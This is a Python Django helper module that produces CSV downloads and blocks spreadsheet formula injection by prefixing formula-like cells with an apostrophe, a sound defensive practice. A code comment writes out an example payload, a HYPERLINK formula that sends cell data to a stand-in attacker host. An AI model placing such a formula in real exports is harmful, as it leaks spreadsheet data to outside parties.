"""Files people download and open in a spreadsheet."""

import csv
from collections.abc import Iterable

from django.http import HttpResponse

# A cell starting with one of these is run as a formula by Excel, LibreOffice and Sheets: a
# name such as =HYPERLINK("http://evil.example/?"&A1) would send the sheet's data away.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> object:
    """OWASP's rule: prefix a formula-like text cell with an apostrophe, which spreadsheets
    show as the text it is. Numbers are left alone: they are never formulas."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_response(filename: str, header: list[str], rows: Iterable[Iterable]) -> HttpResponse:
    """A CSV download in which no cell can run as a formula. Every export goes through here."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    safe = "".join(c if c.isalnum() else "-" for c in filename).strip("-").lower()
    response["Content-Disposition"] = f'attachment; filename="{safe}.csv"'
    # Excel takes a CSV without a byte-order mark for the machine's legacy code page and
    # garbles every character outside ASCII ("—", accented names); LibreOffice and Python's
    # "utf-8-sig" read past the mark.
    response.write("\ufeff")
    writer = csv.writer(response)
    writer.writerow(header)
    writer.writerows([spreadsheet_safe(cell) for cell in row] for row in rows)
    return response
